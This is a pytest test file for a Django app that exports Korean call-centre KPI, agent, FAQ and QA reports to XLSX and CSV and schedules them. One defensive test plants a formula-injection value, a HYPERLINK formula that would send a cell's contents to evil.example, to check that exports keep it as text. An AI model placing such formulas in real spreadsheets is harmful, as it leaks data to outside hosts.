from __future__ import annotations

import io
import json
from datetime import date, timedelta
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from django_celery_beat.models import PeriodicTask
from openpyxl import load_workbook

from apps.chat.models import MessageSender
from apps.reports import services
from apps.reports.models import ReportDefinition, ReportRun, RunStatus
from apps.reports.tasks import run_definition
from tests.factories import FaqFactory, MessageFactory, ReportDefinitionFactory
from tests.reports.conftest import kst

pytestmark = pytest.mark.django_db
DAY = date(2026, 3, 2)


def _sheet(run: ReportRun) -> list[tuple]:
    with run.file.open("rb") as handle:
        book = load_workbook(io.BytesIO(handle.read()))
    return list(book.active.iter_rows(values_only=True))


def test_daily_kpi_xlsx_holds_korean_headers_and_computed_values(kpi_day):
    definition = ReportDefinitionFactory(kind="daily_kpi", file_format="xlsx")

    run = run_definition(definition.pk, "2026-03-02")

    rows = _sheet(ReportRun.objects.get(pk=run))
    assert rows[0][:4] == ("일자", "대화 수", "챗봇 해결률(%)", "상담 연결률(%)")
    assert rows[1][:5] == ("2026-03-02", 8, 25.0, 62.5, 56.7)
    assert rows[1][rows[0].index("점유율(%)")] == 13.67
    assert rows[2][0] == "합계"


def test_agent_performance_lists_each_agent_with_team_and_qa(kpi_day):
    definition = ReportDefinitionFactory(kind="agent_performance", file_format="xlsx")

    rows = _sheet(ReportRun.objects.get(pk=run_definition(definition.pk, "2026-03-02")))

    assert rows[0][:3] == ("상담원", "팀", "대화 수")
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["김상담"][1:3] == ("1팀", 2)
    assert by_name["김상담"][rows[0].index("QA 점수")] == 85.0
    assert by_name["이상담"][rows[0].index("평균 처리 시간(초)")] == 330.0


def test_faq_effectiveness_csv_counts_hits_votes_and_fallbacks(kpi_day):
    faq = FaqFactory(question="요금 조회")
    conv = kpi_day.convs[0]
    for seq, helpful in [(1, True), (2, True), (3, False), (4, None)]:
        MessageFactory(
            conversation=conv,
            seq=seq,
            sender=MessageSender.BOT,
            faq=faq,
            helpful=helpful,
            created_at=kst(9, 1),
        )
    MessageFactory(
        conversation=conv,
        seq=5,
        sender=MessageSender.BOT,
        next_action="FALLBACK",
        created_at=kst(9, 2),
    )
    definition = ReportDefinitionFactory(kind="faq_effectiveness", file_format="csv")

    run = ReportRun.objects.get(pk=run_definition(definition.pk, "2026-03-02"))

    raw = run.file.open("rb").read()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM so Excel reads UTF-8 Korean
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0] == "FAQ ID,질문,답변 횟수,도움 됨,도움 안 됨,도움 비율(%)"
    assert lines[1] == f"{faq.pk},요금 조회,4,2,1,66.67"
    assert lines[2] == ",폴백(답변하지 못함),1,,,"


def test_a_name_that_looks_like_a_formula_stays_text_in_xlsx_and_csv(kpi_day):
    # Agent names come from supervisors and Amazon Connect: never a live formula in Excel.
    formula = '=HYPERLINK("https://evil.example/?"&C2,"김상담")'
    kpi_day.a1.display_name = formula
    kpi_day.a1.save(update_fields=["display_name"])
    xlsx = ReportDefinitionFactory(kind="agent_performance", file_format="xlsx")
    csv = ReportDefinitionFactory(kind="agent_performance", file_format="csv")

    xlsx_run = ReportRun.objects.get(pk=run_definition(xlsx.pk, "2026-03-02"))
    csv_run = ReportRun.objects.get(pk=run_definition(csv.pk, "2026-03-02"))

    with xlsx_run.file.open("rb") as handle:
        sheet = load_workbook(io.BytesIO(handle.read())).active
    cell = next(c for c in sheet["A"] if c.value == formula)
    assert cell.data_type == "s"
    lines = csv_run.file.open("rb").read().decode("utf-8-sig").splitlines()
    assert any(line.startswith("\"'=HYPERLINK(") for line in lines)
    assert not any(line.startswith(("=", '"=')) for line in lines)


def test_qa_summary_averages_submitted_evaluations(kpi_day):
    from apps.evaluations.models import Evaluation

    Evaluation.objects.exclude(status="draft").update(submitted_at=kst(18))
    definition = ReportDefinitionFactory(kind="qa_summary", file_format="xlsx")

    rows = _sheet(ReportRun.objects.get(pk=run_definition(definition.pk, "2026-03-02")))

    assert rows[0] == ("상담원", "평가 수", "평균 점수", "최저 점수", "최고 점수", "이의 제기 중")
    assert rows[1:] == [("김상담", 2, 85.0, 80.0, 90.0, 0), ("이상담", 1, 60.0, 60.0, 60.0, 0)]


def test_a_scheduled_run_stores_a_file_and_mails_it_once(kpi_day, mailoutbox):
    definition = ReportDefinitionFactory(
        kind="daily_kpi", file_format="xlsx", recipients="boss@example.com\nqa@example.com"
    )

    first = run_definition(definition.pk, "2026-03-02")
    second = run_definition(definition.pk, "2026-03-02")

    assert first == second
    run = ReportRun.objects.get()
    assert run.status == RunStatus.SUCCESS and run.file.name.endswith(".xlsx")
    assert len(mailoutbox) == 1
    mail = mailoutbox[0]
    assert mail.to == ["boss@example.com", "qa@example.com"]
    assert mail.attachments[0][0] == run.file.name.rsplit("/", 1)[-1]


def _left_running(definition: ReportDefinition, started_at) -> ReportRun:
    """A run a worker claimed and then died in (killed at the time limit, OOM, deploy)."""
    return ReportRun.objects.create(
        definition=definition,
        period_start=DAY,
        period_end=DAY,
        status=RunStatus.RUNNING,
        started_at=started_at,
    )


def test_a_run_left_running_past_the_time_limit_is_reclaimed_and_built(kpi_day, mailoutbox):
    definition = ReportDefinitionFactory(kind="daily_kpi", recipients="boss@example.com")
    stale = _left_running(definition, timezone.now() - services.STALE_RUN_AFTER - timedelta(1))

    run_definition(definition.pk, "2026-03-02")

    stale.refresh_from_db()
    assert stale.status == RunStatus.SUCCESS and stale.file
    assert stale.started_at > timezone.now() - timedelta(minutes=1)
    assert len(mailoutbox) == 1


def test_a_run_still_running_within_the_time_limit_is_left_alone(kpi_day, mailoutbox):
    definition = ReportDefinitionFactory(kind="daily_kpi", recipients="boss@example.com")
    running = _left_running(definition, timezone.now() - timedelta(minutes=5))

    run_definition(definition.pk, "2026-03-02")

    running.refresh_from_db()
    assert running.status == RunStatus.RUNNING and not running.file
    assert mailoutbox == []


def test_a_weekly_definition_covers_seven_days(kpi_day):
    definition = ReportDefinitionFactory(kind="daily_kpi", file_format="csv", params={"days": 7})

    run = ReportRun.objects.get(pk=run_definition(definition.pk, "2026-03-08"))

    assert (run.period_start, run.period_end) == (date(2026, 3, 2), date(2026, 3, 8))
    assert run.row_count == 3  # the 2nd, the 3rd and the total


def test_run_report_command_prints_progress(kpi_day, mailoutbox):
    ReportDefinitionFactory(name="daily", kind="daily_kpi", recipients="boss@example.com")
    out = StringIO()

    call_command("run_report", "daily", "--date", "2026-03-02", stdout=out)

    lines = out.getvalue().splitlines()
    assert lines[0].startswith("daily: 2026-03-02 ~ 2026-03-02")
    assert "행 2개" in lines and "메일 발송: 1명" in lines
    assert lines[-1].startswith("완료: 실행 #")
    assert len(mailoutbox) == 1


def test_run_report_command_names_unknown_reports_and_bad_dates(db):
    ReportDefinitionFactory(name="daily")
    with pytest.raises(CommandError, match="known: daily"):
        call_command("run_report", "nope", "--date", "2026-03-02")
    with pytest.raises(CommandError, match="YYYY-MM-DD"):
        call_command("run_report", "daily", "--date", "02/03/2026")


def _admin_post(client, url: str, **data: str):
    payload = {
        "name": "weekly-kpi",
        "title": "주간 KPI",
        "kind": "daily_kpi",
        "file_format": "xlsx",
        "recipients": "boss@example.com",
        "params": "{}",
        "is_active": "on",
        **data,
    }
    return client.post(url, payload)


def test_saving_a_definition_in_admin_schedules_it_in_beat(client_as_supervisor):
    add = reverse("admin:reports_reportdefinition_add")

    response = _admin_post(client_as_supervisor, add, crontab="0 7 * * 1")

    assert response.status_code == 302, response.content.decode()[:2000]
    definition = ReportDefinition.objects.get()
    task = definition.periodic_task
    assert task.task == "reports.run_definition"
    assert json.loads(task.args) == [definition.pk]
    assert (task.crontab.minute, task.crontab.hour, task.crontab.day_of_week) == ("0", "7", "1")
    change = reverse("admin:reports_reportdefinition_change", args=[definition.pk])
    _admin_post(client_as_supervisor, change, crontab="30 6 * * *")
    task.refresh_from_db()
    assert (task.crontab.minute, task.crontab.hour) == ("30", "6")
    assert PeriodicTask.objects.filter(task="reports.run_definition").count() == 1


def test_a_bad_crontab_is_refused_naming_the_field(client_as_supervisor):
    response = _admin_post(
        client_as_supervisor, reverse("admin:reports_reportdefinition_add"), crontab="99 7 * *"
    )

    assert response.status_code == 200
    assert "크론 식" in response.content.decode()
    assert not ReportDefinition.objects.exists()
